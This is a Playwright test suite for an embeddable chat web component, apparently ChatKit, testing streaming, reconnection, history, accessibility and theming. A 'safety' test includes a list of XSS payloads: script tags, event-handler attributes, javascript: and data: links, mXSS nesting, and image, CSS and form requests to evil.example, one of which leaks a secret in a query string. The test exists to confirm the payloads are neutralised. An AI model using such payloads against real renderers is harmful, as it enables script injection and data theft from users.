import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { runInNewContext } from 'node:vm'
import { build } from 'esbuild'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { buildElement } from '#scripts/build-element.ts'
import { openBrowser } from '#tests/support/browser.ts'
import { fakeChatKit, type Run } from '#tests/support/fake-chatkit.ts'

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
const XSS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<img src="https://evil.example/pixel.png">',
  '![steal](https://evil.example/?q=secret)',
  '[click](javascript:window.hacked=1)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '<a href="javascript:window.hacked=1">link</a>',
  '<svg onload="window.hacked=1"><script>window.hacked=1</script></svg>',
  '<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }</style>',
  '<iframe src="https://evil.example/"></iframe>',
  '<div style="background:url(https://evil.example/c.png)">styled</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1">',
  '<form action="https://evil.example/"><input name=a><button>go</button></form>',
  '```html\n<img src=x onerror="window.hacked=1">\n```',
  '<details open ontoggle="window.hacked=1">x</details>',
  '[a](https://ok.example "x\\" onmouseover=\\"window.hacked=1")',
  '<https://evil.example/auto>',
].join('\n\n')

let browser: Browser
let server: Awaited<ReturnType<typeof fakeChatKit>>
let context: BrowserContext
let foreign: string[] = []
let complaints: string[] = []

beforeAll(async () => {
  const [element, page, opened] = await Promise.all([
    buildElement('artifacts/element-test/chatkit.js'),
    build({
      entryPoints: ['tests/support/element-page.tsx'],
      bundle: true,
      write: false,
      format: 'iife',
      jsx: 'automatic',
      define: { 'process.env.NODE_ENV': '"development"' },
    }),
    openBrowser(),
  ])
  browser = opened
  server = await fakeChatKit({ element, page: page.outputFiles[0]?.text ?? '' }, answer)
})

afterAll(async () => {
  await browser?.close()
  await server?.[Symbol.asyncDispose]()
})

afterEach(async () => {
  await context?.close()
  expect(foreign, 'nothing is asked of anybody else').toEqual([])
  expect(complaints, 'the browser has nothing to complain about').toEqual([])
})

/** Opens the page with options on top of its own, and watches everything that leaves it. */
async function visit(options: object = {}, settings: Parameters<Browser['newContext']>[0] = {}): Promise<Page> {
  foreign = []
  complaints = []
  server.requests.length = 0
  context = await browser.newContext({ viewport: { width: 900, height: 700 }, ...settings })
  context.setDefaultTimeout(5_000)
  const page = await context.newPage()
  page.on('request', (request) => {
    if (!request.url().startsWith(server.origin) && !/^(data|blob):/.test(request.url())) foreign.push(request.url())
  })
  page.on('pageerror', (error) => complaints.push(String(error)))
  page.on('console', (message) => {
    const expected = /React DevTools|Failed to load resource|ERR_INCOMPLETE_CHUNKED|net::ERR/.test(message.text())
    if (!expected && ['error', 'warning'].includes(message.type())) complaints.push(message.text())
  })
  await page.goto(`${server.origin}/#${encodeURIComponent(JSON.stringify(options))}`)
  await page.locator('openai-chatkit[data-loaded]').waitFor()
  return page
}

const composer = (page: Page) => page.getByRole('textbox', { name: 'Message' })
const sendButton = (page: Page) => page.getByRole('button', { name: 'Send message' })
const answerText = (page: Page) => page.locator('.message').last()
async function say(page: Page, text: string): Promise<void> {
  await composer(page).fill(text)
  await composer(page).press('Enter')
}
const seen = (page: Page) => page.evaluate(() => (window as never as { seen: { name: string; detail?: never }[] }).seen)
const names = async (page: Page) => (await seen(page)).map(({ name }) => name)
const sent = (type: string) => server.requests.filter((request) => request.type === type)

const at = (run: Run) => ({ thread_id: run.thread.id, created_at: new Date().toISOString() })
let made = 0

/** Streams a message in pieces. */
async function speak(run: Run, text: string, { ms = 0, size = 7, annotations = [] as object[] } = {}): Promise<void> {
  const item = { type: 'assistant_message', id: `a_${++made}`, ...at(run), content: [] as object[] }
  const end = (said: string) =>
    run.send({ type: 'thread.item.done', item: { ...item, content: [{ type: 'output_text', text: said, annotations }] } })
  run.send({ type: 'thread.item.added', item })
  for (let from = 0; from < text.length; from += size) {
    if (run.stopped()) return end(text.slice(0, from))
    const delta = text.slice(from, from + size)
    run.send({
      type: 'thread.item.updated',
      item_id: item.id,
      update: { type: 'assistant_message.content_part.text_delta', content_index: 0, delta },
    })
    if (ms) await run.pause(ms)
  }
  end(text)
}

/** What an answer waits for until the test has seen what it wanted to see. */
const gates = new Map<string, Promise<void>>()

/** What the server does when it is told these things. */
async function answer(run: Run, text: string): Promise<void> {
  if (text === 'slow') return speak(run, 'word '.repeat(400), { ms: 15, size: 5 })
  if (text === 'xss') return speak(run, XSS)
  if (text === 'fail') return run.send({ type: 'error', code: 'custom', message: 'The model is tired.', allow_retry: true })
  if (text === 'retry') return speak(run, 'Better now.')
  if (text === 'effect') {
    run.send({ type: 'client_effect', name: 'confetti', data: { pieces: 3 } })
    run.send({ type: 'notice', level: 'warning', title: 'Mind', message: 'The **door** is open.' })
    return speak(run, 'See [this](chatkit-link://task/open?id=7).')
  }
  if (text === 'cut') {
    setTimeout(run.drop, 200)
    run.send({ type: 'client_effect', name: 'once', data: {} })
    return speak(run, 'one two three four five six seven eight nine ten', { ms: 80, size: 5 })
  }
  if (text.startsWith('call ')) {
    const name = text.slice(5)
    return run.send({
      type: 'thread.item.done',
      item: { type: 'client_tool_call', id: `tc_${++made}`, ...at(run), status: 'pending', call_id: 'c', name, arguments: { number: 21 } },
    })
  }
  if (text.startsWith('tool output')) return speak(run, `The page said: \`${text.slice(12)}\``)
  if (text.startsWith('action')) return speak(run, `Acted: \`${text.slice(7)}\``)
  if (text === 'work') {
    const workflow = (status_indicator: string) => ({
      type: 'workflow',
      id: 'wf_1',
      ...at(run),
      workflow: {
        type: 'custom',
        expanded: false,
        tasks: [{ type: 'custom', title: 'add_task', status_indicator, content: 'title: **buy milk**' }],
      },
    })
    run.send({ type: 'thread.item.added', item: workflow('loading') })
    await gates.get('work')
    const ended = workflow('complete')
    run.send({ type: 'thread.item.done', item: { ...ended, workflow: { ...ended.workflow, summary: { duration: 3 } } } })
    run.thread.title = 'Milk'
    run.send({ type: 'thread.updated', thread: { ...run.thread, items: { data: [], has_more: false }, metadata: {} } })
    const source = { type: 'url', title: 'The shop', url: 'https://shop.example/milk' }
    return speak(run, 'Added the task.', { annotations: [{ type: 'annotation', index: 14, source }] })
  }
  if (text === 'widget') {
    const children = [
      { type: 'Title', value: 'Milk' },
      { type: 'Text', value: 'Two litres', id: 't' },
      {
        type: 'Row',
        children: [
          { type: 'Badge', label: 'open', color: 'success' },
          { type: 'Spacer' },
          { type: 'Button', label: 'Done', onClickAction: { type: 'done', payload: { id: 7 } } },
        ],
      },
      { type: 'Hologram', value: 'from the future' },
    ]
    return run.send({
      type: 'thread.item.done',
      item: { type: 'widget', id: `w_${++made}`, ...at(run), widget: { type: 'Card', children } },
    })
  }
  return speak(run, `You said **${text}**.\n\n- one\n- two\n\n\`\`\`js\nlet a = 1\n\`\`\``)
}

describe('a conversation', () => {
  test('the page hears that it is ready, a message goes out once, and the answer streams in as Markdown', async () => {
    const page = await visit()
    expect((await names(page)).filter((name) => name === 'ready')).toEqual(['ready'])
    await say(page, 'hello')
    await page.locator('.md strong', { hasText: 'hello' }).waitFor()
    await sendButton(page).waitFor()
    expect(await page.locator('.md li').allTextContents()).toEqual(['one', 'two'])
    expect(await page.locator('.bubble').allTextContents()).toEqual(['hello'])
    const [request] = server.requests
    expect(request).toMatchObject({
      type: 'threads.create',
      params: { input: { content: [{ type: 'input_text', text: 'hello' }], attachments: [], inference_options: {} } },
    })
    expect(request?.metadata.request_id).toMatch(/^[0-9a-f-]{36}$/)
    expect(request?.headers).toMatchObject({ 'accept-language': 'en-US', 'x-page': 'yes', 'content-type': 'application/json' })
    expect(await names(page)).toEqual(['ready', 'response.start', 'thread.change', 'response.end'])
    await expect.poll(() => page.locator('.sr-only[role=status]').last().textContent()).toContain('You said hello .')
  })

  test('a tool call shows as a line that unfolds, the title follows, and the footnote links to its source', async () => {
    const page = await visit()
    const seenSpinning = Promise.withResolvers<void>()
    gates.set('work', seenSpinning.promise)
    await say(page, 'work')
    await page.locator('.spin').first().waitFor()
    seenSpinning.resolve()
    const line = page.getByRole('button', { name: /add_task/ })
    await page.getByText('Added the task').first().waitFor()
    expect(await line.textContent()).toMatch(/add_task3 sec/)
    await line.click()
    await page.locator('.task-details strong', { hasText: 'buy milk' }).waitFor()
    expect(await line.getAttribute('aria-expanded')).toBe('true')
    await page.getByRole('heading', { name: 'Milk' }).waitFor()
    const footnote = page.getByRole('link', { name: 'Source 1: The shop' })
    expect(await footnote.getAttribute('href')).toBe('https://shop.example/milk')
    expect(await footnote.getAttribute('rel')).toContain('noopener')
    await page.getByText('1 source').click()
    await page.getByRole('link', { name: /The shop.*shop.example/ }).waitFor()
  })

  test('stop tells the server, keeps what was said, and the next message works', async () => {
    const page = await visit()
    await say(page, 'slow')
    await page.getByText('word word').first().waitFor()
    await page.getByRole('button', { name: 'Stop answering' }).click()
    await sendButton(page).waitFor()
    expect(sent('threads.stop')).toHaveLength(1)
    const kept = await answerText(page).textContent()
    expect(kept?.length).toBeLessThan(1_500)
    await page.waitForTimeout(150)
    expect(await answerText(page).textContent()).toBe(kept)
    await say(page, 'again')
    await page.locator('.md strong', { hasText: 'again' }).waitFor()
  })

  test('a failure is a sentence with Retry, which asks again after the same message', async () => {
    const page = await visit()
    await say(page, 'fail')
    const alert = page.getByRole('alert')
    await alert.getByText('The model is tired.').waitFor()
    await alert.getByRole('button', { name: 'Retry' }).click()
    await page.getByText('Better now.').first().waitFor()
    expect(await alert.count()).toBe(0)
    expect(sent('threads.retry_after_item')[0]?.params.item_id).toMatch(/^msg_/)
    expect(await names(page)).toContain('error')
    await page.getByRole('button', { name: 'Good answer' }).click()
    await expect.poll(() => sent('items.feedback')[0]?.params).toMatchObject({ kind: 'positive', item_ids: [expect.stringMatching(/^a_/)] })
  })

  test("a refusal shows the server's sentence and gives the text back", async () => {
    const page = await visit()
    server.refusals.set('threads.create', { status: 413, body: JSON.stringify({ message: 'This message is too long.' }) })
    await say(page, 'hello')
    await page.getByRole('alert').getByText('This message is too long.').waitFor()
    expect(await composer(page).inputValue()).toBe('hello')
    expect(await page.locator('.bubble').count()).toBe(0)
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.locator('.md strong', { hasText: 'hello' }).waitFor()
    server.refusals.set('threads.add_user_message', { status: 500, body: '<html>Oops</html>' })
    await say(page, 'more')
    await page.getByRole('alert').getByText('Internal Server Error').waitFor()
  })

  test('client tools run in the page, and one that throws does not strand the assistant', async () => {
    const page = await visit()
    await say(page, 'call double')
    await page.getByText('The page said: {"name":"double","doubled":42}').first().waitFor()
    expect((await names(page)).filter((name) => name.startsWith('response'))).toEqual(['response.start', 'response.end'])
    await say(page, 'call broken')
    await page.getByText('The page said: {"error":"The tool broke."}').first().waitFor()
  })

  test('effects, notices and deep links reach the page', async () => {
    const page = await visit()
    await say(page, 'effect')
    await page.locator('.notice strong', { hasText: 'door' }).waitFor()
    await page.getByRole('link', { name: 'this' }).click()
    const events = await seen(page)
    expect(events).toContainEqual({ name: 'effect', detail: { name: 'confetti', data: { pieces: 3 } } })
    expect(events).toContainEqual({ name: 'deeplink', detail: { name: 'task/open', data: { id: '7' } } })
  })

  test('a widget is drawn, its button acts, and a component from the future shows its text', async () => {
    const page = await visit()
    await say(page, 'widget')
    await page.getByText('from the future').waitFor()
    await page.getByRole('button', { name: 'Done' }).click()
    await page.getByText('Acted: {"type":"done","payload":{"id":7}}').first().waitFor()
    expect(sent('threads.custom_action')[0]?.params.item_id).toMatch(/^w_/)
  })
})

describe('the connection', () => {
  test('a lost connection is found again: the answer is whole, and nothing happens twice', async () => {
    const page = await visit()
    await say(page, 'cut')
    await expect
      .poll(async () => (await answerText(page).textContent())?.trim(), { timeout: 5_000 })
      .toBe('one two three four five six seven eight nine ten')
    await sendButton(page).waitFor()
    expect(sent('threads.attach').length).toBeGreaterThan(0)
    expect((await names(page)).filter((name) => name === 'effect')).toHaveLength(1)
    expect(await page.locator('.message').count()).toBe(1)
    expect(await page.getByRole('alert').count()).toBe(0)
  })

  test('a message whose fate nobody knows is sent again under its own id, and answered once', async () => {
    const page = await visit()
    await say(page, 'hello')
    await page.locator('.md strong', { hasText: 'hello' }).waitFor()
    await sendButton(page).waitFor()
    server.unheard.set('threads.add_user_message', 1)
    await say(page, 'twice?')
    await page.getByText('Reconnecting').first().waitFor()
    await page.locator('.md strong', { hasText: 'twice?' }).waitFor()
    const tries = sent('threads.add_user_message').map(({ metadata }) => metadata.request_id)
    expect(tries).toEqual([tries[0], tries[0]])
    expect(await page.locator('.bubble').allTextContents()).toEqual(['hello', 'twice?'])
  })

  test('a reload in the middle of an answer shows the same answer going on, and leaving it stops nothing', async () => {
    const page = await visit()
    await say(page, 'slow')
    await page.getByText('word word').first().waitFor()
    const id = [...server.threads.keys()].at(-1)
    await page.goto('about:blank')
    await page.goto(`${server.origin}/#${encodeURIComponent(JSON.stringify({ initialThread: id }))}`)
    await page.getByRole('button', { name: 'Stop answering' }).waitFor()
    const before = (await answerText(page).textContent())?.length ?? 0
    await expect.poll(async () => (await answerText(page).textContent())?.length).toBeGreaterThan(before)
    await page.getByRole('button', { name: 'New chat' }).click()
    await page.getByRole('heading', { name: 'What can I help with today?' }).waitFor()
    expect(sent('threads.stop')).toEqual([])
    expect(await page.locator('.bubble').count()).toBe(0)
  })
})

describe('threads', () => {
  const past = (id: string, title: string, words: string[]) => ({
    id,
    title,
    items: words.flatMap((word, n) => [
      {
        type: 'user_message',
        id: `${id}_q${n}`,
        thread_id: id,
        created_at: '2026-01-01T00:00:00Z',
        content: [{ type: 'input_text', text: `ask ${word}` }],
        attachments: [],
        inference_options: {},
      },
      {
        type: 'assistant_message',
        id: `${id}_a${n}`,
        thread_id: id,
        created_at: '2026-01-01T00:00:00Z',
        content: [{ type: 'output_text', text: `answer ${word}`, annotations: [] }],
      },
    ]),
  })

  test('the history opens, switches, renames, asks before it deletes, and reads further pages', async () => {
    server.threads.clear()
    for (let n = 0; n < 33; n++) server.add(past(`t${n}`, `Chat number ${n}`, [`word${n}`]))
    const page = await visit()
    const dialog = page.getByRole('dialog', { name: 'Chat history' })
    await page.getByRole('button', { name: 'Chat history' }).click()
    await dialog.getByRole('button', { name: /^Chat number 32 / }).waitFor()
    expect(await dialog.locator('.history-row').count()).toBe(30)
    await dialog.getByRole('button', { name: 'Load more' }).click()
    await expect.poll(() => dialog.locator('.history-row').count()).toBe(33)
    await dialog.getByRole('button', { name: /^Chat number 31 / }).click()
    await page.getByText('answer word31').waitFor()
    expect(await dialog.count()).toBe(0)
    await page.getByRole('heading', { name: 'Chat number 31' }).waitFor()

    await page.getByRole('button', { name: 'Chat history' }).click()
    await dialog.getByRole('button', { name: 'Actions for Chat number 31' }).click()
    await page.getByRole('menuitem', { name: 'Rename' }).click()
    await dialog.getByRole('textbox', { name: 'New title' }).fill('Renamed')
    await page.keyboard.press('Enter')
    await dialog.getByRole('button', { name: /^Renamed / }).waitFor()
    await expect.poll(() => server.threads.get('t31')?.title).toBe('Renamed')

    await dialog.getByRole('button', { name: 'Actions for Renamed' }).click()
    await page.getByRole('menuitem', { name: 'Delete' }).click()
    const question = page.getByRole('alertdialog', { name: 'Delete this chat?' })
    await question.getByRole('button', { name: 'Cancel' }).click()
    expect(server.threads.has('t31')).toBe(true)
    await dialog.getByRole('button', { name: 'Actions for Renamed' }).click()
    await page.getByRole('menuitem', { name: 'Delete' }).click()
    await question.getByRole('button', { name: 'Delete' }).click()
    await expect.poll(() => server.threads.has('t31')).toBe(false)
    await page.keyboard.press('Escape')
    await page.getByRole('heading', { name: 'What can I help with today?' }).waitFor()
    expect((await names(page)).filter((name) => name.startsWith('history'))).toEqual([
      'history.open',
      'history.close',
      'history.open',
      'history.close',
    ])
  })

  test('the page drives it: initial thread, switching, drafts of their own, sending, updates, errors', async () => {
    server.threads.clear()
    server.add(past('t1', 'One', ['alpha']))
    server.add(past('t2', 'Two', ['beta']))
    const page = await visit({ initialThread: 't1', header: { title: { text: 'Fixed title' } } })
    const call = (method: string, ...args: unknown[]) =>
      page.evaluate(
        ([name, rest]) => (window as never as { chat: Record<string, (...all: unknown[]) => Promise<void>> }).chat[name]?.(...rest),
        [method, args] as const,
      )
    await page.getByText('answer alpha').waitFor()
    await page.getByRole('heading', { name: 'Fixed title' }).waitFor()
    await composer(page).fill('a draft for one')
    await call('setThreadId', 't2')
    await page.getByText('answer beta').waitFor()
    expect(await composer(page).inputValue()).toBe('')
    await call('setComposerValue', { text: 'set by the page' })
    expect(await composer(page).inputValue()).toBe('set by the page')
    await call('setThreadId', 't1')
    expect(await composer(page).inputValue()).toBe('a draft for one')
    await call('sendUserMessage', { text: 'from the page', newThread: true, model: 'm1', toolChoice: { id: 'x' } })
    await page.locator('.md strong', { hasText: 'from the page' }).waitFor()
    expect(sent('threads.create')[0]?.params).toMatchObject({ input: { inference_options: { model: 'm1', tool_choice: { id: 'x' } } } })
    await call('focusComposer')
    expect(await page.evaluate(() => document.querySelector('openai-chatkit')?.shadowRoot?.activeElement?.tagName)).toBe('TEXTAREA')
    const last = [...server.threads.values()].at(-1)
    Object.assign(last ?? {}, { status: { type: 'closed', reason: 'All done here.' } })
    await call('fetchUpdates')
    await page.getByText('All done here.').waitFor()
    expect(await composer(page).count()).toBe(0)
    await expect(call('sendUserMessage', { text: 'x' })).rejects.toThrow('All done here.')
    await call('setThreadId', 'gone')
    await page.getByRole('alert').getByText('This conversation does not exist.').waitFor()
    await say(page, 'still works')
    await page.locator('.md strong', { hasText: 'still works' }).waitFor()
    expect(
      (await seen(page))
        .filter(({ name }) => name === 'thread.change')
        .map(({ detail }) => (detail as never as { threadId: string }).threadId),
    ).toEqual(['t1', 't2', 't1', null, last?.id, 'gone', null, [...server.threads.keys()].at(-1)])
  })

  test('a locked thread says why in the composer', async () => {
    server.add({ ...past('locked', 'Locked', ['x']), status: { type: 'locked', reason: 'Waiting for approval.' } })
    const page = await visit({ initialThread: 'locked' })
    await page.getByPlaceholder('Waiting for approval.').waitFor()
    expect(await page.getByPlaceholder('Waiting for approval.').isDisabled()).toBe(true)
  })

  test('a long thread begins at its end, earlier messages come on demand, and typing stays fluid', async () => {
    server.add(
      past(
        'long',
        'Long',
        Array.from({ length: 250 }, (_, n) => `n${n}.`),
      ),
    )
    const page = await visit({ initialThread: 'long' })
    await page.getByText('answer n249.').waitFor()
    const bottomGap = () => page.locator('.scroller').evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight)
    expect(await bottomGap()).toBeLessThan(5)
    for (let n = 0; n < 9; n++) {
      const before = await page.locator('.bubble').count()
      await page.getByRole('button', { name: 'Show earlier messages' }).click()
      await expect.poll(() => page.locator('.bubble').count()).toBeGreaterThan(before)
    }
    expect(await page.locator('.bubble').count()).toBe(250)
    await page.evaluate(() => {
      Object.assign(window, { longest: 0 })
      let last = performance.now()
      const tick = () => {
        const now = performance.now()
        Object.assign(window, { longest: Math.max((window as never as { longest: number }).longest, now - last) })
        last = now
        requestAnimationFrame(tick)
      }
      requestAnimationFrame(tick)
    })
    await say(page, 'slow')
    await page.getByText('word word').first().waitFor()
    await page.waitForTimeout(700)
    expect(await page.evaluate(() => (window as never as { longest: number }).longest), 'longest frame in ms').toBeLessThan(400)
    expect(await bottomGap()).toBeLessThan(60)
    await page.locator('.scroller').evaluate((box) => box.scrollTo(0, 300))
    await page.waitForTimeout(200)
    expect(await page.locator('.scroller').evaluate((box) => box.scrollTop)).toBe(300)
    await page.getByRole('button', { name: 'Jump to the latest message' }).click()
    await expect.poll(bottomGap).toBeLessThan(60)
  })
})

test('the script does nothing where there is no browser', async () => {
  expect(() => runInNewContext(readFileSync('artifacts/element-test/chatkit.js', 'utf8'), {})).not.toThrow()
})

test('with autoScroll off a new question goes to the top and stays there', async () => {
  const page = await visit({ thread: { autoScroll: false } })
  await say(page, 'first')
  await page.locator('.md strong', { hasText: 'first' }).waitFor()
  await sendButton(page).waitFor()
  await say(page, 'slow')
  await page.getByText('word word').first().waitFor()
  const top = () =>
    page
      .locator('.bubble')
      .last()
      .evaluate((bubble) => bubble.getBoundingClientRect().top)
  await expect.poll(top).toBeLessThan(140)
  await page.waitForTimeout(400)
  expect(await top()).toBeGreaterThan(50)
})

describe('safety', () => {
  test('nothing in an answer runs, loads or leads astray, streamed and loaded again', async () => {
    const page = await visit()
    await say(page, 'xss')
    const verdict = async () => {
      await page.getByText('evil.example/auto').first().waitFor()
      await sendButton(page).waitFor()
      await page.waitForTimeout(100)
      const found = await page.evaluate(() => {
        const root = document.querySelector('openai-chatkit')?.shadowRoot
        const all = [...(root?.querySelectorAll('.md *') ?? [])]
        return {
          hacked: 'hacked' in window,
          tags: [...new Set(all.map((element) => element.tagName.toLowerCase()))],
          handlers: all.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style')),
          links: all.filter((element) => element.tagName === 'A').map((element) => element.getAttribute('href')),
          rels: all.filter((element) => element.tagName === 'A').map((element) => element.getAttribute('rel')),
        }
      })
      expect(found.hacked).toBe(false)
      expect(
        found.tags.filter((tag) => ['script', 'img', 'svg', 'style', 'iframe', 'form', 'input', 'math', 'details'].includes(tag)),
      ).toEqual([])
      expect(found.handlers).toEqual([])
      expect(found.links.every((href) => href?.startsWith('https://'))).toBe(true)
      expect(new Set(found.rels)).toEqual(new Set(['noopener noreferrer']))
    }
    await verdict()
    const id = [...server.threads.keys()].at(-1)
    await page.goto('about:blank')
    await page.goto(`${server.origin}/#${encodeURIComponent(JSON.stringify({ initialThread: id }))}`)
    await verdict()
  })
})

describe('access', () => {
  const violations = async (page: Page) => {
    // The page's policy forbids foreign scripts; the debugger's door is not bound by it.
    await page.evaluate(AXE)
    const found = await page.evaluate(async () => {
      const { violations } = await (
        window as never as {
          axe: {
            run: (
              options: object,
            ) => Promise<{ violations: { id: string; impact: string; nodes: { target: string[]; failureSummary: string }[] }[] }>
          }
        }
      ).axe.run({ resultTypes: ['violations'] })
      return violations.map(({ id, impact, nodes }) => ({
        id,
        impact,
        nodes: nodes.map(({ target, failureSummary }) => `${target.join(' ')} ${failureSummary}`),
      }))
    })
    return found.filter(({ impact }) => impact === 'serious' || impact === 'critical')
  }

  test.each(['light', 'dark'] as const)('axe finds nothing serious in the %s scheme', async (colorScheme) => {
    const prompts = [{ label: 'What is open?', prompt: 'hello', icon: 'search' }]
    const page = await visit(
      {
        startScreen: { prompts },
        disclaimer: { text: 'Check *what* matters.' },
        composer: { tools: [{ id: 't', label: 'Search', icon: 'globe' }] },
      },
      { colorScheme, reducedMotion: 'reduce' },
    )
    expect(await violations(page)).toEqual([])
    await page.getByRole('button', { name: 'What is open?' }).click()
    await page.locator('.md strong', { hasText: 'hello' }).waitFor()
    await say(page, 'work')
    await page.getByRole('button', { name: /add_task/ }).click()
    await page.getByText('1 source').click()
    await say(page, 'fail')
    await page.getByRole('alert').waitFor()
    expect(await violations(page)).toEqual([])
    await page.getByRole('button', { name: 'Chat history' }).click()
    await page.locator('.history-row').first().waitFor()
    expect(await violations(page)).toEqual([])
  })

  test('the keyboard alone is enough', async () => {
    server.threads.clear()
    server.add({ id: 'old', title: 'Old chat' })
    const page = await visit({
      startScreen: { prompts: [{ label: 'First prompt', prompt: 'prompted' }] },
      composer: {
        tools: [
          { id: 'find', label: 'Find', icon: 'search' },
          { id: 'draw', label: 'Draw', icon: 'write' },
        ],
      },
    })
    const press = (...keys: string[]) => keys.reduce((before, key) => before.then(() => page.keyboard.press(key)), Promise.resolve())
    const focused = () =>
      page.evaluate(() => {
        const active = document.querySelector('openai-chatkit')?.shadowRoot?.activeElement
        return active?.getAttribute('aria-label') ?? active?.textContent
      })
    await press('Tab')
    expect(await focused()).toBe('Chat history')
    await press('Enter')
    await page.getByRole('button', { name: /^Old chat/ }).waitFor()
    await press('Tab', 'Tab', 'Tab')
    expect(await focused()).toMatch(/^Old chat/)
    await press('Tab', 'Enter', 'ArrowDown')
    expect(await focused()).toBe('Delete')
    await press('Escape')
    expect(await focused()).toBe('Actions for Old chat')
    await press('Escape')
    await expect.poll(focused).toBe('Chat history')
    await press('Tab', 'Tab', 'Tab')
    expect(await focused()).toBe('First prompt')
    await press('Tab')
    expect(await focused()).toBe('Message')
    await press('Tab', 'Enter', 'ArrowDown', 'Enter')
    expect(await focused()).toBe('Tools')
    await press('Shift+Tab')
    await page.keyboard.type('line one')
    await press('Shift+Enter')
    await page.keyboard.type('line two')
    expect(await composer(page).inputValue()).toBe('line one\nline two')
    await press('Enter')
    await page.getByText('You said').first().waitFor()
    expect(sent('threads.create')[0]?.params).toMatchObject({ input: { inference_options: { tool_choice: { id: 'draw' } } } })
    expect((await seen(page)).filter(({ name }) => name === 'tool.change').map(({ detail }) => detail)).toEqual([
      { toolId: 'draw' },
      { toolId: null },
    ])
  })

  test('an Enter that ends a composition sends nothing', async () => {
    const page = await visit()
    await composer(page).fill('にほん')
    await composer(page).evaluate((field) =>
      field.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })),
    )
    await page.waitForTimeout(50)
    expect(server.requests).toEqual([])
  })

  test('on a phone targets are large enough, nothing scrolls sideways, and the text is readable', async () => {
    const page = await visit({}, { viewport: { width: 390, height: 700 }, hasTouch: true, isMobile: true })
    await say(page, 'hello')
    await sendButton(page).waitFor()
    const small = await page.evaluate(() => {
      const root = document.querySelector('openai-chatkit')?.shadowRoot
      const buttons = [...(root?.querySelectorAll('.header button, .dock button, .actions button') ?? [])]
      return buttons.map((button) => button.getBoundingClientRect()).filter(({ width, height }) => Math.min(width, height) < 44).length
    })
    expect(small).toBe(0)
    expect(await composer(page).evaluate((field) => Number.parseFloat(getComputedStyle(field).fontSize))).toBeGreaterThanOrEqual(16)
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
  })
})

test('a plain page without React: ready is heard by the first listener however late, once, and a removed one heard nothing', async () => {
  const page = await visit()
  const heard = await page.evaluate(async () => {
    const element = document.createElement('openai-chatkit') as HTMLElement & { setOptions: (options: object) => void }
    const counts = { removed: 0, first: 0, second: 0 }
    element.setOptions({ api: { url: '/chatkit', domainKey: 'x' } })
    document.body.append(element)
    await new Promise((resolve) => setTimeout(resolve, 400))
    const gone = new AbortController()
    element.addEventListener('chatkit.ready', () => counts.removed++, { signal: gone.signal })
    gone.abort()
    element.addEventListener('chatkit.ready', () => counts.first++)
    await new Promise((resolve) => setTimeout(resolve, 50))
    element.addEventListener('chatkit.ready', () => counts.second++)
    await new Promise((resolve) => setTimeout(resolve, 50))
    // A move within the page keeps the conversation; a removed element goes quietly.
    document.querySelector('main')?.append(element)
    const kept = element.shadowRoot?.querySelector('.composer') !== null
    element.remove()
    return { ...counts, kept }
  })
  expect(heard).toEqual({ removed: 0, first: 1, second: 0, kept: true })
})

test('options change looks at once, bad ones throw, and the theme reaches the colours', async () => {
  const page = await visit({
    theme: { colorScheme: 'dark', radius: 'sharp', color: { accent: { primary: 'rgb(200, 30, 90)', level: 2 } } },
    locale: 'ar',
    frameTitle: 'Helpdesk',
  })
  const region = page.getByRole('region', { name: 'Helpdesk' })
  expect(await region.getAttribute('dir')).toBe('rtl')
  expect(await page.locator('.composer').evaluate((form) => getComputedStyle(form).borderRadius)).toBe('3px')
  await composer(page).fill('x')
  await expect.poll(() => sendButton(page).evaluate((button) => getComputedStyle(button).backgroundColor)).toBe('rgb(200, 30, 90)')
  expect(await page.locator('openai-chatkit').getAttribute('data-color-scheme')).toBe('dark')
  const thrown = await page.evaluate(() => {
    const element = document.createElement('openai-chatkit') as unknown as { setOptions: (options: object) => void }
    try {
      element.setOptions({})
    } catch (error) {
      return String(error)
    }
  })
  expect(thrown).toContain('api.url')
})
